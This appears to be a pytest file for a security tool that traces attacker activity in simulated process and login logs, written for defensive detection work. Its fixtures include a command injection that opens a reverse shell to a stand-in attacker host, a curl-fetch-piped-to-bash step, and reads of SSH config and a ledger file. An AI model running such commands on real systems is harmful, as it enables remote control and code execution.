"""Whose doing it is: a visitor's requests, a stranger's sessions, code that somebody brought in."""

import pytest

from tests.agent.staging import ATTACKER, Stage
from watchfloor.agent.case import Alert, Investigation
from watchfloor.agent.investigating import Investigator

CUSTOMER = "198.51.100.20"
DESK = 60


def worked(stage: Stage, record: str) -> Investigation:
    return Investigator(stage.index()).investigate(Alert("c", (record,)))


def asked(stage: Stage, at: float, pid: int, address: str, command: str) -> str:
    """A request to the desk and what the desk started for it; its fork is on no record."""
    stage.accept(at, DESK, address)
    return stage.run(at + 0.2, pid, pid + 5_000, command)


def shop() -> Stage:
    """A desk that starts a program for each request of its customer."""
    stage = Stage()
    for n in range(20):
        asked(stage, n * 150.0, 1_000 + n, CUSTOMER, f"/bin/sh -c 'render order-{n}'")
    return stage


def test_first_requests_with_nothing_odd_in_them_are_found_by_who_asked() -> None:
    stage = shop()
    first = asked(stage, 900, 2_000, ATTACKER, "/bin/sh -c 'render order-7'")
    probe = asked(stage, 930, 2_010, ATTACKER, "/bin/sh -c 'render today'")
    taken = asked(stage, 960, 2_020, ATTACKER, f"/bin/sh -c 'render x; bash -i >& /dev/tcp/{ATTACKER}/443 0>&1'")
    found = worked(stage, taken)
    assert {first, probe, taken} <= set(found.operations)
    assert found.root_cause is not None and first in found.root_cause.event_ids


def test_requests_of_somebody_who_was_a_customer_all_along_are_not_one_case() -> None:
    stage = shop()
    last = asked(stage, 2_900, 2_000, CUSTOMER, "/bin/sh -c 'render order-99'")
    assert worked(stage, last).operations == [last]


def test_behind_a_proxy_the_visitor_is_whom_the_proxy_took() -> None:
    stage = shop()
    found = []
    for n in range(2):
        stage.accept(900 + n * 30, 70, ATTACKER, "proxy")
        stage.connect(900.1 + n * 30, 70, "127.0.0.1", 8000)
        found.append(asked(stage, 900.2 + n * 30, 2_000 + n, "127.0.0.1", f"/bin/sh -c 'render a{n}'"))
    assert set(found) <= set(worked(stage, found[1]).operations)


def office() -> Stage:
    """A host where somebody logs on all day from one address."""
    stage = Stage()
    for n in range(12):
        shell = stage.log_in(n * 250.0, 100 + n * 10, "ana", "10.0.0.5", f"a{n}")
        stage.run(n * 250.0 + 5, 105 + n * 10, shell, f"vim notes-{n}", "ana", f"a{n}")
    return stage


def test_who_comes_back_a_dozen_times_from_an_address_nobody_used_before_is_one_actor() -> None:
    stage = office()
    done = []
    for n in range(9):
        shell = stage.log_in(700 + n * 200.0, 3_000 + n * 10, "ana", ATTACKER, f"x{n}")
        done.append(stage.run(701 + n * 200.0, 3_005 + n * 10, shell, f"head -c 9{n} /srv/ledger", "ana", f"x{n}"))
    found = worked(stage, done[5])
    assert set(done) <= set(found.operations)
    assert not any("notes" in moment.claim.text for moment in found.timeline)


def test_a_host_that_logs_on_to_itself_all_day_is_no_stranger() -> None:
    stage = office()
    for n in range(6):
        stage.run(700 + n * 300.0, 6_000 + n * 10, 40, "ssh deploy@shop-1", "deploy")
        stage.connect(700.1 + n * 300.0, 6_000 + n * 10, "10.0.0.1", 22)
        shell = stage.log_in(700.2 + n * 300.0, 6_002 + n * 10, "deploy", "10.0.0.1", f"h{n}")
        last = stage.run(701 + n * 300.0, 6_005 + n * 10, shell, f"install build-{n}", "deploy", f"h{n}")
    assert not any("build-2" in moment.claim.text for moment in worked(stage, last).timeline)


def test_sessions_from_ones_usual_address_are_not_one_case() -> None:
    stage = office()
    mine = stage.run(2_760, 900, 211, "vim last", "ana", "a11")
    assert not any("notes-3" in moment.claim.text for moment in worked(stage, mine).timeline)


@pytest.mark.parametrize("how", ["piped", "installed"])
def test_of_a_deceived_user_the_root_is_what_brought_the_code_and_not_the_log_in(how: str) -> None:
    stage = office()
    shell = stage.log_in(2_000, 4_000, "ana", "10.0.0.5", "d")
    before = stage.run(2_001, 4_005, shell, "git status", "ana", "d")
    if how == "piped":
        brought = stage.run(2_010, 4_010, shell, f"curl -fsSL http://{ATTACKER}/get.sh", "ana", "d")
        stage.run(2_010.1, 4_011, shell, "bash", "ana", "d")
    else:
        brought = stage.run(2_010, 4_011, shell, "python3 /usr/bin/pip install colour-lib", "ana", "d")
    taken = stage.run(2_011, 4_012, 4_011, f"bash -c 'bash -i >& /dev/tcp/{ATTACKER}/443 0>&1'", "ana", "d")
    stage.connect(2_011.1, 4_012, ATTACKER)
    found = worked(stage, taken)
    assert found.root_cause is not None and brought in found.root_cause.event_ids
    assert found.entry_point is not None and "10.0.0.5" in found.entry_point.text
    assert before not in found.operations and found.verdict != "benign"


def test_a_fork_that_ran_nothing_of_its_own_does_not_hide_what_brought_the_code() -> None:
    stage = office()
    shell = stage.log_in(2_000, 4_000, "ana", "10.0.0.5", "d")
    brought = stage.run(2_010, 4_010, shell, "/bin/sh /home/ana/lint/setup.sh", "ana", "d")
    stage.row(2_010.1, "file.create", 4_011, file__path="/home/ana/.cache/lint", actor__user__name="ana",
              actor__process__parent_process__uid="shop-1/4010", actor__session__uid="d")  # fmt: skip
    taken = stage.run(2_020, 4_012, 4_011, "bash -i", "ana", "d")
    looked = stage.run(2_030, 4_013, 4_012, "cat /home/ana/.ssh/config", "ana", "d")
    assert {brought, taken} <= set(worked(stage, looked).operations)


def test_what_is_sent_into_the_background_belongs_to_the_shell_that_was_at_work() -> None:
    stage = office()
    shell = stage.log_in(2_000, 4_000, "ana", "10.0.0.5", "d")
    brought = stage.run(2_010, 4_010, shell, f"curl -fsSL http://{ATTACKER}/get.sh", "ana", "d")
    stage.run(2_010.1, 4_011, shell, "bash", "ana", "d")
    stage.run(2_010.2, 4_013, 4_011, "mkdir -p /home/ana/.cache/x", "ana", "d")
    away = stage.run(2_010.3, 4_020, 9_999, "setsid bash -i", "ana", "d")
    assert brought in worked(stage, away).operations
